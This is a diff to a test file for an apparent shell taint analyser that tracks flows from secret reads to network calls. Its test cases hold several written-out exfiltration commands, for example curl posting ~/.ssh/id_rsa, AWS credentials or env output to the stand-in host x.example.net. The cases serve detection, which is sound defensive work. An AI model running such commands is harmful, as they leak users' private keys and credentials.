@@ -80,6 +80,15 @@ CASES: list[tuple[str, set[FlowRow]]] = [
     ('curl -d "$(< ~/.ssh/id_rsa)" https://x.example.net',
      {("fs.read(~/.ssh/id_rsa)", 1, "net.connect(x.example.net)", 1, (), "")}),
     ('read -r -p "Name: " name\ncurl -s "https://api.example.com/users/$name"', set()),
+    # a use takes the assignments that reach it
+    ('K=$(cat ~/.aws/credentials)\nK=redacted\ncurl -d "$K" https://x.example.net', set()),
+    ('if [ -n "$CI" ]; then\n  K=$(env)\nelse\n  K=none\nfi\ncurl -d "$K" https://x.example.net',
+     {("env.read(*)", 2, "net.connect(x.example.net)", 6, ((2, "assigned to K"),), "")}),
+    ('send() { curl -d "$DATA" https://x.example.net; }\nDATA=$(env)\nsend',
+     {("env.read(*)", 2, "net.connect(x.example.net)", 1, ((2, "assigned to DATA"),), "")}),
+    ('for k in $(cat ~/.ssh/id_rsa); do\n  curl -d "$k" https://x.example.net\ndone',
+     {("fs.read(~/.ssh/id_rsa)", 1, "net.connect(x.example.net)", 2,
+       ((1, "iterated as k"),), "")}),
     # the script's functions: what a call passes is their $1 and "$@"
     ('send() {\n  local body="$1"\n  curl -s -d "$body" https://x.example.net\n}\n'
      'send "$(cat ~/.ssh/id_rsa)"',
@@ -203,3 +212,11 @@ def test_an_argv_list_has_the_flows_of_its_one_command() -> None:
     analysis = judge_argv(["tar", "czf", "/tmp/k.tgz", "~/.ssh"], FILES, "scripts/sync.py")
     assert [(str(f.source.capability), str(f.sink.capability)) for f in analysis.flows] == [
         ("fs.read(~/.ssh)", "fs.write(/tmp/k.tgz)")]
+
+
+def test_a_reused_variable_reaches_only_its_own_uses() -> None:
+    loops = "".join(f'while read -r l; do echo "$l" >> out{i}; done < in{i}\n'
+                    for i in range(300))
+    analysis = analyse_shell(loops, FILES, "x.sh")
+    assert {(f.source.line, f.sink.line) for f in analysis.flows} == {
+        (i, i) for i in range(1, 301)}
